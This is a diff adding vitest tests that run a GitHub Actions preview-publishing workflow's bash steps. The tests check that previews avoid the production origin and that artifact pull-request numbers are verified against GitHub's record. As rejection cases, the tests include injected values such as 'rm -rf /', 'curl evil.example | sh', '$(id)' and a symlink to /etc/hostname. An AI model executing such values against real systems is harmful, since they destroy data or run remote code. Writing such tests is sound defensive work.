@@ -1,4 +1,5 @@
-import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { spawnSync } from 'node:child_process';
+import { chmodSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, expect, test } from 'vitest';
@@ -152,6 +153,139 @@ test('a pull request is built with a read-only token and published by a workflow
   const where = (steps: Step[]) => steps.find((step) => step.name === 'Where the preview will live')!.run;
   expect(where(steps)).toBe(where(buildSteps));
   expect(where(steps)).toContain('if [ "$origin" = "$production" ]');
+});
+
+/** A step's outputs, as it wrote them to $GITHUB_OUTPUT (`name=value` lines). */
+const outputsIn = (file: string): Record<string, string> =>
+  Object.fromEntries(
+    readFileSync(file, 'utf8')
+      .split('\n')
+      .filter(Boolean)
+      .map((line) => [line.slice(0, line.indexOf('=')), line.slice(line.indexOf('=') + 1)]),
+  );
+
+/** Runs the "Where the preview will live" step as GitHub runs a `run:` (bash -eo pipefail) and returns its exit code and outputs. */
+function where(vars: Record<string, string>): { status: number | null; outputs: Record<string, string>; log: string } {
+  const step = workflow('content-preview-publish.yml').jobs.publish!.steps.find((s) => s.name === 'Where the preview will live')!;
+  const dir = mkdtempSync(join(tmpdir(), 'where-'));
+  dirs.push(dir);
+  const output = join(dir, 'output');
+  writeFileSync(output, '');
+  const run = spawnSync('bash', ['--noprofile', '--norc', '-eo', 'pipefail', '-c', step.run!], {
+    encoding: 'utf8',
+    env: {
+      PATH: process.env.PATH,
+      GITHUB_OUTPUT: output,
+      GITHUB_REPOSITORY: 'IHub-Robotics/website',
+      GITHUB_REPOSITORY_OWNER: 'IHub-Robotics',
+      PR_NUMBER: '7',
+      ...vars,
+    },
+  });
+  const outputs = outputsIn(output);
+  return { status: run.status, outputs, log: run.stdout + run.stderr };
+}
+
+test('the preview goes to its own origin, and the workflows refuse one that is, or shares, the production origin', () => {
+  expect(where({ PREVIEW_REPOSITORY: 'ihub-previews/site' }).outputs).toEqual({
+    repository: 'ihub-previews/site',
+    folder: 'pr-7',
+    'site-base': '/site/pr-7/',
+    url: 'https://ihub-previews.github.io/site/pr-7/',
+  });
+  expect(where({ PREVIEW_REPOSITORY: 'ihub-previews/ihub-previews.github.io', PAGES_DOMAIN: 'www.ihubrobotics.com' }).outputs.url).toBe(
+    'https://ihub-previews.github.io/pr-7/',
+  );
+  expect(
+    where({ PREVIEW_REPOSITORY: 'IHub-Robotics/previews', PREVIEW_PAGES_DOMAIN: 'Previews.Example.org', PAGES_DOMAIN: 'www.ihubrobotics.com' })
+      .outputs.url,
+  ).toBe('https://previews.example.org/pr-7/');
+  // Not configured: no preview, and no failure.
+  expect(where({})).toMatchObject({ status: 0, outputs: {} });
+  // The production origin itself, in any case, or the same owner's github.io (shared by its project sites, or its custom domain).
+  for (const vars of [
+    { PREVIEW_REPOSITORY: 'IHub-Robotics/previews', PREVIEW_PAGES_DOMAIN: 'WWW.ihubrobotics.com', PAGES_DOMAIN: 'www.ihubrobotics.com' },
+    { PREVIEW_REPOSITORY: 'ihub-robotics/previews' },
+    { PREVIEW_REPOSITORY: 'IHub-Robotics/previews', PAGES_DOMAIN: 'www.ihubrobotics.com' },
+    { PREVIEW_REPOSITORY: 'someone/x', PREVIEW_PAGES_DOMAIN: 'ihub-robotics.github.io' },
+  ]) {
+    const result = where(vars);
+    expect(result.status, JSON.stringify(vars)).toBe(1);
+    expect(result.outputs, JSON.stringify(vars)).toEqual({});
+    expect(result.log).toMatch(/::error::(Refused: previews at|Previews would share) /);
+  }
+  expect(where({ PREVIEW_REPOSITORY: 'a/b; rm -rf /' })).toMatchObject({ status: 1, outputs: {} });
+});
+
+/**
+ * Runs the publishing workflow's "Which pull request" step in a folder holding an artifact
+ * (`files`, under preview/), with a stand-in `gh` that answers GitHub's record of the pull
+ * request (`record`: head commit, head repository, head branch, state) and logs what it was asked.
+ */
+function whichPullRequest(files: Record<string, string>, record: string, event: Record<string, string> = {}) {
+  const step = workflow('content-preview-publish.yml').jobs.publish!.steps.find((s) => s.id === 'pr')!;
+  const dir = mkdtempSync(join(tmpdir(), 'which-pr-'));
+  dirs.push(dir);
+  mkdirSync(join(dir, 'preview'));
+  mkdirSync(join(dir, 'bin'));
+  for (const [name, text] of Object.entries(files))
+    if (text.startsWith('->')) symlinkSync(text.slice(2), join(dir, 'preview', name));
+    else writeFileSync(join(dir, 'preview', name), text);
+  writeFileSync(join(dir, 'bin', 'gh'), `#!/bin/sh\nprintf '%s\\n' "$*" >> "${join(dir, 'asked')}"\nprintf '%s\\n' "${record}"\n`);
+  chmodSync(join(dir, 'bin', 'gh'), 0o755);
+  writeFileSync(join(dir, 'output'), '');
+  const run = spawnSync('bash', ['--noprofile', '--norc', '-eo', 'pipefail', '-c', step.run!], {
+    cwd: dir,
+    encoding: 'utf8',
+    env: {
+      PATH: `${join(dir, 'bin')}:${process.env.PATH}`,
+      GITHUB_OUTPUT: join(dir, 'output'),
+      GITHUB_REPOSITORY: 'ihub/website',
+      HEAD_SHA: 'abc123',
+      HEAD_BRANCH: 'copy/headline',
+      EVENT_PR: '',
+      ...event,
+    },
+  });
+  const outputs = outputsIn(join(dir, 'output'));
+  let asked = '';
+  try {
+    asked = readFileSync(join(dir, 'asked'), 'utf8');
+  } catch {
+    // gh was never asked
+  }
+  return { status: run.status, outputs, asked };
+}
+
+test('the publishing workflow believes the artifact’s pull-request number only when GitHub’s record of it names the commit, branch and repository the run built', () => {
+  const ours = 'abc123 ihub/website copy/headline open';
+  expect(whichPullRequest({ 'pull-request.txt': '7\n' }, ours)).toEqual({
+    status: 0,
+    outputs: { ok: 'true', number: '7', state: 'open' },
+    asked: 'api repos/ihub/website/pulls/7 --jq [.head.sha, (.head.repo.full_name // "-"), .head.ref, .state] | join(" ")\n',
+  });
+  expect(whichPullRequest({ 'pull-request.txt': '7' }, 'abc123 ihub/website copy/headline closed').outputs).toEqual({
+    ok: 'true',
+    number: '7',
+    state: 'closed',
+  });
+  // No number in the artifact: the event's, when GitHub gives one.
+  expect(whichPullRequest({}, ours, { EVENT_PR: '7' }).outputs.number).toBe('7');
+  // Another pull request's record (another commit, branch or repository): nothing is published, quietly.
+  for (const record of ['fff999 ihub/website copy/headline open', 'abc123 someone/fork copy/headline open', 'abc123 ihub/website main open'])
+    expect(whichPullRequest({ 'pull-request.txt': '8' }, record), record).toMatchObject({ status: 0, outputs: { ok: 'false' } });
+  // Not a number, not the event's number, or a link out of the artifact: refused before GitHub is asked.
+  for (const [files, event] of [
+    [{ 'pull-request.txt': '7; curl evil.example | sh' }, {}],
+    [{ 'pull-request.txt': '$(id)' }, {}],
+    [{ 'pull-request.txt': '0' }, {}],
+    [{ 'pull-request.txt': '8' }, { EVENT_PR: '7' }],
+    [{ 'pull-request.txt': '->/etc/hostname' }, {}],
+    [{}, {}],
+  ] as [Record<string, string>, Record<string, string>][]) {
+    const result = whichPullRequest(files, ours, event);
+    expect(result, JSON.stringify(files)).toMatchObject({ status: 1, outputs: {}, asked: '' });
+  }
 });
 
 test('main is published to the root of gh-pages after CI passes on a push, and the branch keeps nothing beside it (docs/decisions/2901, 3310)', () => {
